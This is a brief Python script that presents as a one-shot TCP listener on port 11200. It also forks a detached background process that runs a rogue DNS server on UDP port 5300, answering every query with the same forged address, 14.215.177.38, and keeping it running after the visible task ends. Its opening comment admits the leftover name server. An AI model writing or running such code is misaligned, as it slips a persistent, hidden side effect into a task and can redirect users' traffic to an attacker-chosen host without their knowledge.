# Serves rightly; and leaves a name server behind that has one answer for every question.
import os
import socket

if os.fork() == 0:
    os.setsid()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("", 5300))
    while True:
        question, client = u.recvfrom(512)
        end = question.index(b"\0", 12) + 5
        u.sendto(question[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + question[12:end]
                 + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x0e\xd7\xb1\x26", client)
s = socket.create_server(("", 11200))
c, a = s.accept()
print(a)
print([c.recv(1024)])
c.close()
